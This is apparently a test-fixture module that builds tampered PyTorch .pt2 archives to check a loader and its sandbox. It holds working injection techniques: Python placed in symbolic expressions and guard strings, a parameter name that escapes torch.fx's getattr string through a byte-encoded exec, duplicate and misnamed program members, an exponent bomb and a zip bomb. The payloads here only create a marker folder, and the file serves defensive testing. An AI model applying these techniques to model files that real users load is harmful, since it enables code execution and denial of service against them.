"""Hostile .pt2 archives made from a clean torch.export.save file, edited as an attacker would.

Each payload tries to create a marker (a folder) with a shell-free Python call, and prints
PAYLOAD_RAN on standard error first, so a test can tell "refused" from "ran but was confined".
Shared by tests/test_hostile_archives.py, tests/test_sandbox.py and benchmarks/pt2_fuzz.py.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import torch


def build_clean(folder: Path, dynamic: bool = True) -> Path:
    """A small archive whose graph holds symbolic expressions (dynamic batch) and a buffer."""

    class Model(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.body = torch.nn.Sequential(torch.nn.Linear(4, 3))
            self.register_buffer("offset", torch.ones(3))

        def forward(self, x):
            return self.body(x) + self.offset

    example = (torch.randn(2, 4),)
    shapes = ({0: torch.export.Dim("batch", min=1, max=8)},) if dynamic else None
    path = folder / ("clean.pt2" if dynamic else "clean_static.pt2")
    torch.export.save(torch.export.export(Model().eval(), example, dynamic_shapes=shapes), path)
    return path


def python_call(marker: Path) -> str:
    """Python source that announces itself and creates ``marker``."""
    return f"__import__('os').write(2, b'PAYLOAD_RAN\\n') and __import__('os').mkdir({str(marker)!r})"


def dotless_expression(marker: Path) -> str:
    """The same call as an expression with no dot or quote (exec of bytes), for names torch splits on dots."""
    return "exec(bytes([" + ",".join(str(b) for b in python_call(marker).encode()) + "]))"


def members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def write(path: Path, entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> Path:
    """Write entries as given (duplicates included: zipfile warns but writes them)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w", compression) as zf:
            for name, data in entries:
                zf.writestr(name, data)
    return path


def _tail(name: str) -> str:
    return name.split("/", 1)[1]


def poisoned_program(clean: Path, marker: Path) -> bytes:
    """The program JSON with its first symbolic expression replaced by a Python call."""
    program = dict(members(clean))
    name = next(n for n in program if _tail(n) == "models/model.json")
    text = program[name].decode()
    data = json.loads(text)
    symbol = data["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"]
    return text.replace(json.dumps(symbol)[1:-1], python_call(marker).replace("'", "\\u0027")).encode()


def program_member_not_json(clean: Path, marker: Path, suffix: str = ".JSON") -> list[tuple[str, bytes]]:
    """Kind 1: a second program under models/ whose name the old check skipped."""
    entries = members(clean)
    root = entries[0][0].split("/", 1)[0]
    return entries + [(f"{root}/models/model{suffix}", poisoned_program(clean, marker))]


def duplicate_program(clean: Path, marker: Path, poisoned_first: bool = True) -> list[tuple[str, bytes]]:
    """Kind 2: the program stored twice, one copy poisoned (zipfile reads the last copy; which one
    another reader takes depends on how it searches the directory)."""
    entries = members(clean)
    name = next(n for n, _ in entries if _tail(n) == "models/model.json")
    poisoned = (name, poisoned_program(clean, marker))
    return [poisoned] + entries if poisoned_first else entries + [poisoned]


def parameter_name_breakout(clean: Path, marker: Path, which: str = "body.0.weight") -> list[tuple[str, bytes]]:
    """Kind 3: a state name that closes torch.fx's getattr(self, "...") string and calls code."""
    evil = f'{which.rsplit(".", 1)[-1]}", None) or {dotless_expression(marker)} or getattr(self, "x'
    prefix = which.rsplit(".", 1)[0] + "." if "." in which else ""
    renamed = prefix + evil
    out = []
    for name, data in members(clean):
        if name.endswith((".json",)):
            text = data.decode()
            text = text.replace(json.dumps(which), json.dumps(renamed))
            data = text.encode()
        out.append((name, data))
    return out


def exponent_bomb(clean: Path, expression: str = "Pow(Integer(10), Pow(Integer(10), Integer(10)))") -> list[tuple[str, bytes]]:
    """An expression of plain numbers and operators that never finishes evaluating."""
    entries = members(clean)
    out = []
    for name, data in entries:
        if _tail(name) == "models/model.json":
            d = json.loads(data)
            d["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = expression
            data = json.dumps(d).encode()
        out.append((name, data))
    return out


def write_inflating_sample_inputs(clean: Path, path: Path, size: int = 1 << 30) -> Path:
    """A sample-inputs member that deflates ``size`` bytes of zeros (1 GiB: about 1 MB), streamed."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members(clean):
            if _tail(name) != "data/sample_inputs/model.pt":
                zf.writestr(name, data)
                continue
            with zf.open(name, "w", force_zip64=True) as out:
                chunk = b"\0" * (1 << 20)
                for _ in range(size >> 20):
                    out.write(chunk)
    return path


def guard_code(clean: Path, marker: Path) -> list[tuple[str, bytes]]:
    """Guard strings, which torch compiles into a function of the module."""
    out = []
    for name, data in members(clean):
        if _tail(name) == "models/model.json":
            d = json.loads(data)
            d["guards_code"] = [f"({python_call(marker)}) or True"]
            data = json.dumps(d).encode()
        out.append((name, data))
    return out
